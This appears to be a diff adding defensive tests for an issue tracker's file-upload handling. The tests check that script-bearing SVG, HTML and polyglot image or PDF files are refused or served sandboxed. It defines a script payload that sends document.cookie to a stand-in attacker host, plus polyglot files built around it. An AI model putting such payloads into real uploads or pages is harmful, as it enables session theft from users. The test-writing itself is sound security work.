@@ -1,0 +1,141 @@
+import { gzipSync } from "node:zlib";
+import { beforeAll, describe, expect, test } from "vitest";
+import { call, file, newMember, type Person, report, upload } from "../support/people.ts";
+import { BUCKET, db, ORIGIN, STORAGE, unique } from "../support/suite.ts";
+import { expectFailure } from "./expect-failure.ts";
+
+let member: Person;
+let other: Person;
+beforeAll(async () => {
+  [member, other] = await Promise.all([newMember(), newMember()]);
+});
+
+const text = (value: string) => new TextEncoder().encode(value);
+const bytes = (...parts: (Uint8Array | number)[]) =>
+  Uint8Array.from(parts.flatMap((part) => (typeof part === "number" ? [part] : [...part])));
+
+const SCRIPT = text("<script>fetch('https://evil.example/'+document.cookie)</script>");
+const SVG = bytes(text('<svg xmlns="http://www.w3.org/2000/svg">'), SCRIPT, text("</svg>"));
+const HTML = bytes(text("<!doctype html>"), SCRIPT);
+const PNG = bytes(0x89, text("PNG\r\n"), 0x1a, 0x0a);
+
+const place = () => {
+  const issueId = unique("i");
+  return { issueId, path: `attachments/${member.uid}/${issueId}/f-1` };
+};
+
+async function filing(issueId: string, path: string, size: number, type: string, name: string) {
+  const attachments = [{ name, size, type, url: `/api/${path}` }];
+  return await call("POST", "/api/issues", { as: member, body: report({ id: issueId, attachments }) });
+}
+
+describe("a page with a script, uploaded straight to Storage", () => {
+  test.each([
+    ["image/svg+xml", SVG],
+    ["text/html", HTML],
+    ["application/xhtml+xml", HTML],
+    ["image/svg+xml; charset=utf-8", SVG],
+    ["Text/HTML", HTML],
+  ])("threat 5: is refused as %s", async (type, content) => {
+    expect(await upload(member, place().path, content, type)).toBe(403);
+  });
+
+  test.each([
+    ["SVG", "image/png", SVG],
+    ["SVG", "image/jpeg", SVG],
+    ["HTML", "image/png", HTML],
+    ["HTML", "image/gif", HTML],
+    ["HTML", "image/webp", HTML],
+    ["HTML", "application/pdf", HTML],
+    ["HTML after a byte order mark", "image/png", bytes(0xef, 0xbb, 0xbf, HTML)],
+    ["HTML after the signature of another type", "image/jpeg", bytes(PNG, HTML)],
+    ["HTML before the signature", "image/png", bytes(HTML, PNG)],
+  ])("threat 5: cannot be filed as a picture: %s as %s", async (_, type, content) => {
+    const { issueId, path } = place();
+    expect(await upload(member, path, content, type)).toBe(200);
+    expectFailure(await filing(issueId, path, content.length, type, "a.png"), 400, "bad-request");
+    expect((await db.doc(`issues/${issueId}`).get()).exists).toBe(false);
+    expect((await get(path, other)).status).toBe(404);
+    await expectHarmless(path, type, member);
+  });
+
+  test.each([
+    ["a PNG that goes on as HTML", "image/png", bytes(PNG, HTML)],
+    ["a GIF that goes on as a script", "image/gif", bytes(text("GIF89a/*"), SCRIPT)],
+    ["a JPEG that goes on as HTML", "image/jpeg", bytes(0xff, 0xd8, 0xff, 0xe0, HTML)],
+    ["a WebP that goes on as HTML", "image/webp", bytes(text("RIFF"), 0, 0, 0, 0, text("WEBP"), HTML)],
+    ["a PDF that goes on as HTML", "application/pdf", bytes(text("%PDF-1.7\n"), HTML)],
+    ["a text that is HTML", "text/plain", HTML],
+    ["JSON that is SVG", "application/json", SVG],
+  ])("threat 5: never runs when it is two things at once: %s", async (_, type, content) => {
+    const { issueId, path } = place();
+    expect(await upload(member, path, content, type)).toBe(200);
+    expect((await filing(issueId, path, content.length, type, "page.html")).status).toBe(201);
+    await expectHarmless(path, type, other);
+  });
+});
+
+describe("what an uploader says of a file besides its type", () => {
+  test.each([
+    ["packed", "gzip", gzipSync(HTML)],
+    ["said to be packed", "br", Buffer.from(HTML)],
+  ])("threat 5: a file that is %s is refused, and read back as it is stored", async (_, contentEncoding, content) => {
+    const { issueId, path } = place();
+    await putWith(path, content, { contentType: "text/plain", contentEncoding });
+    expectFailure(await filing(issueId, path, content.length, "text/plain", "a.log"), 400, "bad-request");
+    const answer = await get(path, member);
+    expect(Number(answer.headers.get("content-length"))).toBe(content.length);
+    expect(new Uint8Array(await answer.arrayBuffer())).toEqual(new Uint8Array(content));
+  });
+
+  test("threat 5: headers that the uploader asked for are not those of the answer", async () => {
+    const { issueId, path } = place();
+    await putWith(path, Buffer.from(HTML), {
+      contentType: "text/plain",
+      contentDisposition: "inline; filename=page.html",
+      cacheControl: "public, max-age=31536000",
+      contentLanguage: "en",
+    });
+    const attachments = [{ name: "a.log", size: HTML.length, type: "text/plain", url: `/api/${path}` }];
+    await file(member, { id: issueId, attachments });
+    await expectHarmless(path, "text/plain", other);
+    expect((await get(path, other)).headers.get("cache-control")).toMatch(/^private,/);
+  });
+});
+
+async function get(path: string, person: Person): Promise<Response> {
+  return await fetch(`${ORIGIN}/api/${path}`, { headers: { authorization: `Bearer ${person.idToken}` } });
+}
+
+/** A browser that opens it runs nothing: the type is the one listed, and not guessed; only a JPEG shows, in a sandbox. */
+async function expectHarmless(path: string, type: string, person: Person): Promise<void> {
+  const { status, headers } = await get(path, person);
+  expect({ status, ...Object.fromEntries(headers) }).toMatchObject({
+    status: 200,
+    "content-type": expect.stringMatching(new RegExp(`^${type}(;|$)`)),
+    "x-content-type-options": "nosniff",
+    "content-security-policy": "default-src 'none'; sandbox",
+    "content-disposition": expect.stringMatching(type === "image/jpeg" ? /^inline$/ : /^attachment;/),
+  });
+}
+
+/** Uploads as the member with metadata of their own. */
+async function putWith(path: string, content: Buffer, metadata: { contentType: string } & Record<string, string>) {
+  const described = JSON.stringify({ name: path, ...metadata });
+  const body = Buffer.concat([
+    Buffer.from(`--part\r\ncontent-type: application/json\r\n\r\n${described}\r\n`),
+    Buffer.from(`--part\r\ncontent-type: ${metadata.contentType}\r\n\r\n`),
+    content,
+    Buffer.from("\r\n--part--"),
+  ]);
+  const response = await fetch(`${STORAGE}/v0/b/${BUCKET}/o?name=${encodeURIComponent(path)}`, {
+    method: "POST",
+    headers: {
+      authorization: `Firebase ${member.idToken}`,
+      "content-type": "multipart/related; boundary=part",
+      "x-goog-upload-protocol": "multipart",
+    },
+    body,
+  });
+  expect(response.status).toBe(200);
+}
